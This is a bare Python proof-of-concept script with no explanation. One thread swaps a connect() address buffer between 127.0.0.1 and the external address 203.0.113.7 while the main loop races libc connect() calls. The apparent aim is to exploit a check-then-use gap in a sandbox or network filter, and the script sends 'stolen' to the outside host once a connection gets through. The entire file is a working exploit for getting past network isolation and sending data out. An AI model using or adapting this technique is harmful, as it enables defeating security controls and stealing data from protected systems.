import ctypes, socket, struct, threading, time
libc = ctypes.CDLL(None)
own = socket.socket(); own.bind(("127.0.0.1", 8080)); own.listen(50)
def name(host):
    return struct.pack("=H", 2) + struct.pack("!H", 8080) + socket.inet_aton(host) + bytes(8)
near, far = name("127.0.0.1"), name("203.0.113.7")
buffer = ctypes.create_string_buffer(16)
end = time.time() + 2
def swap():
    while time.time() < end:
        buffer[:] = near; buffer[:] = far
threading.Thread(target=swap).start()
while time.time() < end:
    s = socket.socket(); s.settimeout(None)
    if libc.connect(s.fileno(), buffer, 16) == 0:
        try:
            if s.getpeername()[0] == "203.0.113.7":
                s.send(b"stolen"); break
        except OSError:
            pass
    s.close()
end = 0
